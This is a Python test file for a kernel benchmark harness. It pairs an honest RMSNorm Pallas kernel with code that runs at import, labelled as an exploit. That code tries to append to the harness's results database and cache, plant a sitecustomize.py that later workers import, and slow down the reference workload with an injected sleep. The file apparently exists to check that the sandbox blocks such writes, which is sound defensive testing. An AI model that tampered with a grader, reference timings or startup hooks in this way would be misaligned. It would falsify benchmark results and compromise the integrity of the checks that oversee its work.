# target: 12p_RMSNorm
# expect: correct
# exploit: poisoned project - at import, tries to write where jb keeps its state and code: the
#          results database and blobs of the cache (cache/jb.sqlite, cache/cas/), a
#          python/sitecustomize.py that every later worker would import, and a slow tail appended to
#          the workload's reference; reports on stderr what it managed; its kernel is honest.
#          Armed only inside jb's sandbox (JB_SANDBOXED=1) or with JB_ATTACK_ARMED=1 (a scratch copy
#          of the project): run unsandboxed and armed it really damages the checkout.
import os
import pathlib
import sys

import jax
import jax.numpy as jnp
from jax.experimental import pallas as pl

MARK = "# jb-trust-attack: write_files\n"


def _roots():
    roots = [pathlib.Path.cwd()]
    try:
        import jb

        roots.append(pathlib.Path(jb.__file__).resolve().parents[2])
    except Exception:  # noqa: BLE001
        pass
    return list(dict.fromkeys(roots))


def _targets():
    out = []
    for root in _roots():
        cache = pathlib.Path(os.environ.get("JB_CACHE", root / "cache"))
        out += [
            cache / "jb.sqlite",
            cache / "cas" / "jb-trust-attack",
            cache / "jb-trust-attack",
            root / "python" / "sitecustomize.py",
            root / "workloads" / "12p_RMSNorm" / "workload.py",
        ]
    return out


def _attack():
    for path in _targets():
        try:
            if path.is_file() and MARK in path.read_text(encoding="utf-8", errors="ignore"):
                print(f"trust_write_files: already poisoned {path}", file=sys.stderr)
                continue
            with open(path, "a", encoding="utf-8") as f:
                if path.name == "workload.py":
                    f.write(MARK + "import time as _t\n_w = workload\nworkload = lambda *a: (_t.sleep(0.05), _w(*a))[1]\n")
                elif path.suffix == ".sqlite":
                    f.write(MARK)  # a real attacker would UPDATE the XLA timings; any write shows access
                else:
                    f.write(MARK)
            print(f"trust_write_files: WROTE {path}", file=sys.stderr)
        except OSError as exc:
            print(f"trust_write_files: blocked {path}: {exc.strerror}", file=sys.stderr)


if os.environ.get("JB_SANDBOXED") == "1" or os.environ.get("JB_ATTACK_ARMED") == "1":
    _attack()


def _kernel(x_ref, s_ref, o_ref):
    x = x_ref[...].astype(jnp.float32)
    y = x * jax.lax.rsqrt(jnp.mean(x * x, axis=-1, keepdims=True) + 1e-5)
    o_ref[...] = (y * s_ref[...].astype(jnp.float32)).astype(o_ref.dtype)


def workload(x, scale):
    b, s, d = x.shape
    out = pl.pallas_call(_kernel, out_shape=jax.ShapeDtypeStruct((b * s, d), x.dtype))(
        x.reshape(b * s, d), scale.reshape(1, d))
    return out.reshape(b, s, d)
